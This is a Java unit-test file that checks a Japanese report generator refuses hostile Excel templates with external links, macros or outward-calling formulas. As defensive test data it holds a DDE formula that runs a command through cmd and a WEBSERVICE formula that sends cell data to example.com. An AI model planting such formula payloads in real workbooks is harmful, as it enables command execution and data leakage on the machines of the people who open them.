package jp.banso.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.function.Consumer;
import jp.banso.domain.Meeting;
import jp.banso.store.Store;
import org.apache.poi.openxml4j.opc.PackagePart;
import org.apache.poi.openxml4j.opc.PackagingURIHelper;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A template dropped into the data folder is hostile input: a link to another file, a data connection, a macro or a
 * formula that calls out (WEBSERVICE, DDE) is refused with a Japanese message naming the file and cell, and no hand-out
 * is written. Formulas within the workbook stay.
 */
class TemplateSafetyTest {
    @TempDir
    Path dir;

    @Test
    void aFormulaReadingAnotherWorkbookIsRefused() throws Exception {
        assertRefused(wb -> {
            XSSFWorkbook other = new XSSFWorkbook();
            other.createSheet("名簿").createRow(0).createCell(0).setCellValue("秘");
            wb.linkExternalWorkbook("名簿.xlsx", other);
            wb.getSheetAt(0).getRow(2).createCell(0).setCellFormula("[名簿.xlsx]名簿!A1");
        }, "外部のブックへのリンクが含まれています", "ほかのブックを参照している");
    }

    @Test
    void aWebServiceCallIsRefusedWithItsCell() throws Exception {
        assertRefused(wb -> rawFormula(wb, "_xlfn.WEBSERVICE(\"http://example.com/?\"&B4)"),
                "シート「支援記録票」のセル A3", "外部に接続・参照する関数 WEBSERVICE");
    }

    @Test
    void aDdeFormulaIsRefused() throws Exception {
        assertRefused(wb -> rawFormula(wb, "cmd|' /C calc'!A0"), "シート「支援記録票」のセル A3", "DDE");
    }

    @Test
    void aMacroPartIsRefused() throws Exception {
        assertRefused(wb -> {
            try {
                PackagePart vba = wb.getPackage().createPart(PackagingURIHelper.createPartName("/xl/vbaProject.bin"),
                        "application/vnd.ms-office.vbaProject");
                try (OutputStream out = vba.getOutputStream()) {
                    out.write(new byte[] {1, 2, 3});
                }
            } catch (Exception e) {
                throw new IllegalStateException(e);
            }
        }, "マクロ（VBA）が含まれています");
    }

    @Test
    void formulasWithinTheWorkbookAreKept() throws Exception {
        Path out = dir.resolve("out");
        try (Store store = Store.open(dir.resolve("data"))) {
            Meeting m = ReportFixtures.caseWithVisit(store, x -> { });
            ReportFixtures.override(store, "meeting-record", wb -> wb.getSheetAt(0).getRow(2).createCell(0).setCellFormula("LEN(B4)&\"文字\""));
            ReportFixtures.export(store, m, out, "meeting-record");
        }
        try (XSSFWorkbook wb = Sheets.open(out.resolve("令和8年度_さくら市_第1回現地支援_支援記録票.xlsx"))) {
            var cell = wb.getSheetAt(0).getRow(2).getCell(0);
            assertThat(cell.getCellType()).isEqualTo(CellType.FORMULA);
            assertThat(cell.getCellFormula()).isEqualTo("LEN(B4)&\"文字\"");
        }
    }

    @Test
    void textInQuotesIsNotMistakenForALink() {
        assertThat(TemplateSafety.reachesOutside("\"[資料]集計!\"&A1")).isNull();
        assertThat(TemplateSafety.reachesOutside("COUNTIF(A1:A9,\"a|b\")")).isNull();
        assertThat(TemplateSafety.reachesOutside("'C:\\共有\\[台帳.xlsx]一覧'!A1")).isNotNull();
        assertThat(TemplateSafety.reachesOutside("hyperlink(\"file:///C:/x\")")).contains("HYPERLINK");
    }

    /** Writes a formula as stored in the file, bypassing POI's parser (which refuses some of these). */
    private static void rawFormula(XSSFWorkbook wb, String formula) {
        XSSFCell cell = wb.getSheetAt(0).getRow(2).createCell(0);
        cell.getCTCell().addNewF().setStringValue(formula);
    }

    private void assertRefused(Consumer<XSSFWorkbook> edit, String... expected) throws Exception {
        try (Store store = Store.open(dir.resolve("data"))) {
            Meeting m = ReportFixtures.caseWithVisit(store, x -> { });
            Path template = ReportFixtures.override(store, "meeting-record", edit);
            Path out = dir.resolve("out");
            Files.createDirectories(out);
            assertThatThrownBy(() -> ReportFixtures.export(store, m, out, "issue-sheet", "meeting-record"))
                    .isInstanceOf(ReportException.class)
                    .hasMessageContaining(template.toString())
                    .hasMessageContainingAll(expected);
            assertThat(ReportFixtures.filesIn(out)).as("nothing written").isEmpty();
        }
    }
}
